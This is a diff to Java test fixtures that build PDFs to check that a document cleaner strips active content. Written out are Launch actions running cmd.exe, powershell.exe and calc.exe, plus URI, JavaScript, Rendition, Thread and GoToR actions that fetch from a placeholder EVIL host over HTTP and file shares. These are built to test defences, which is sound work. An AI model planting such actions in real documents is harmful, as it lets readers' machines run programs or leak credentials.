@@ -9,6 +9,7 @@ import java.io.UncheckedIOException;
 import java.util.List;
 import org.apache.pdfbox.cos.COSArray;
 import org.apache.pdfbox.cos.COSDictionary;
+import org.apache.pdfbox.cos.COSInteger;
 import org.apache.pdfbox.cos.COSName;
 import org.apache.pdfbox.cos.COSStream;
 import org.apache.pdfbox.cos.COSString;
@@ -375,18 +376,23 @@ final class ActiveFixtures {
     return l;
   }
 
+  /** The page's contents, started with the evidence text that must survive cleaning. */
+  private static PDPageContentStream evidence(PDDocument doc, PDPage page) throws IOException {
+    PDPageContentStream cs = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.OVERWRITE, false);
+    cs.beginText();
+    cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 10);
+    cs.newLineAtOffset(20, 300);
+    cs.showText(PDF_TEXT);
+    cs.endText();
+    return cs;
+  }
+
   /** A PDF that opens a web address when opened, runs scripts, launches, submits, carries XFA and a program. */
   static byte[] pdf() {
     try (PDDocument doc = new PDDocument()) {
       PDPage page = new PDPage(PDRectangle.A6);
       doc.addPage(page);
-      try (PDPageContentStream cs = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.OVERWRITE, false)) {
-        cs.beginText();
-        cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 10);
-        cs.newLineAtOffset(20, 300);
-        cs.showText(PDF_TEXT);
-        cs.endText();
-      }
+      evidence(doc, page).close();
       COSDictionary catalog = doc.getDocumentCatalog().getCOSObject();
       COSDictionary open = action("URI", "URI", new COSString("http://" + EVIL + "/opened"));
       open.setItem(COSName.NEXT, action("JavaScript", "JS", new COSString("app.launchURL('http://" + EVIL + "/js')")));
@@ -489,6 +495,89 @@ final class ActiveFixtures {
       files.setItem(COSName.NAMES, fileNames);
       names.setItem(COSName.EMBEDDED_FILES, files);
       catalog.setItem(COSName.NAMES, names);
+      ByteArrayOutputStream out = new ByteArrayOutputStream();
+      doc.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
+      return out.toByteArray();
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
+    }
+  }
+
+  private static COSDictionary dict(Object... keysAndValues) {
+    COSDictionary d = new COSDictionary();
+    for (int i = 0; i < keysAndValues.length; i += 2) {
+      Object v = keysAndValues[i + 1];
+      d.setItem(COSName.getPDFName((String) keysAndValues[i]), v instanceof String s ? COSName.getPDFName(s)
+          : v instanceof byte[] b ? new COSString(b) : (org.apache.pdfbox.cos.COSBase) v);
+    }
+    return d;
+  }
+
+  private static COSArray array(org.apache.pdfbox.cos.COSBase... items) {
+    COSArray a = new COSArray();
+    for (var i : items) {
+      a.add(i);
+    }
+    return a;
+  }
+
+  /**
+   * Found by review: actions a click runs that the cleaner kept because they looked like no action
+   * (a {@code /Launch} with only {@code /Win}, a {@code /Rendition} with only {@code /R}) in a
+   * {@code /Next} array, {@code /Thread} actions that open a file at an address or on a share, a
+   * form that a reader may replace by a page of an outside file ({@code /Ref}); with close
+   * variants: an action in a chain by reference, a chain that loops, an outline item, a link's
+   * former action ({@code /PA}). A thread action inside the document stays, and the web link.
+   */
+  static byte[] pdfActionsBehindClicks() {
+    try (PDDocument doc = new PDDocument()) {
+      PDPage page = new PDPage(PDRectangle.A6);
+      doc.addPage(page);
+      COSStream figure = doc.getDocument().createCOSStream();
+      try (var o = figure.createOutputStream()) {
+        o.write(ascii("0 0 m 10 10 l S"));
+      }
+      figure.setItem(COSName.TYPE, COSName.XOBJECT);
+      figure.setItem(COSName.SUBTYPE, COSName.FORM);
+      figure.setItem(COSName.BBOX, array(COSInteger.ZERO, COSInteger.ZERO, COSInteger.get(10), COSInteger.get(10)));
+      figure.setItem(COSName.getPDFName("Ref"), dict("F", dict("FS", "URL", "F", ascii("http://" + EVIL + "/ref.pdf")),
+          "Page", COSInteger.ZERO));
+      page.setResources(new org.apache.pdfbox.pdmodel.PDResources());
+      page.getResources().getCOSObject().setItem(COSName.XOBJECT, dict("Fig", figure));
+      try (PDPageContentStream cs = evidence(doc, page)) {
+        cs.drawForm(new org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject(figure));
+      }
+      COSDictionary jump = dict("S", "GoTo", "D", array(page.getCOSObject(), COSName.getPDFName("Fit")));
+      COSDictionary launch = dict("S", "Launch", "Win", dict("F", ascii("cmd.exe"), "P", ascii("/c calc")));
+      COSDictionary rendition = dict("S", "Rendition", "OP", COSInteger.ZERO, "R", dict("S", "MR", "C",
+          dict("S", "MCD", "CT", ascii("audio/mpeg"), "D", dict("FS", "URL", "F", ascii("http://" + EVIL + "/a.mp3")))));
+      COSDictionary gotor = dict("S", "GoToR", "F", ascii("\\\\" + EVIL + "\\share\\x.pdf"));
+      jump.setItem(COSName.NEXT, array(launch, rendition, gotor));
+      // a web link whose chain loops back to it through a jump that also launches
+      COSDictionary web = action("URI", "URI", new COSString(WEB_LINK));
+      COSDictionary loop = dict("S", "GoTo", "D", array(page.getCOSObject(), COSName.getPDFName("Fit")));
+      loop.setItem(COSName.NEXT, array(web, dict("S", "Launch", "F", ascii("powershell.exe"))));
+      web.setItem(COSName.NEXT, loop);
+      COSDictionary formerAction = link(130, jump);
+      formerAction.setItem(COSName.PA, action("URI", "URI", new COSString("file:///\\\\" + EVIL + "\\pa")));
+      COSArray annots = array(link(10, jump),
+          link(40, dict("S", "Thread", "D", COSInteger.ZERO, "F", dict("FS", "URL", "F", ascii("http://" + EVIL + "/t.pdf")))),
+          link(70, dict("S", "Thread", "D", COSInteger.ZERO, "F", ascii("\\\\" + EVIL + "\\share\\t.pdf"))),
+          link(100, dict("S", "Thread", "D", COSInteger.ZERO)), formerAction, link(160, web));
+      page.getCOSObject().setItem(COSName.ANNOTS, annots);
+      COSDictionary catalog = doc.getDocumentCatalog().getCOSObject();
+      COSDictionary item = dict("Title", ascii("EVIDENCE outline"), "A", dict("S", "Launch", "Win", dict("F", ascii("calc.exe"))));
+      COSDictionary outlines = dict("Type", "Outlines", "First", item, "Last", item, "Count", COSInteger.ONE);
+      item.setItem(COSName.PARENT, outlines);
+      catalog.setItem(COSName.OUTLINES, outlines);
+      COSDictionary thread = dict("Type", "Thread");
+      COSDictionary bead = dict("Type", "Bead", "T", thread, "P", page.getCOSObject(),
+          "R", array(COSInteger.ZERO, COSInteger.ZERO, COSInteger.get(10), COSInteger.get(10)));
+      bead.setItem(COSName.N, bead);
+      bead.setItem(COSName.V, bead);
+      thread.setItem(COSName.F, bead);
+      catalog.setItem(COSName.THREADS, array(thread));
+      page.getCOSObject().setItem(COSName.B, array(bead));
       ByteArrayOutputStream out = new ByteArrayOutputStream();
       doc.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
       return out.toByteArray();
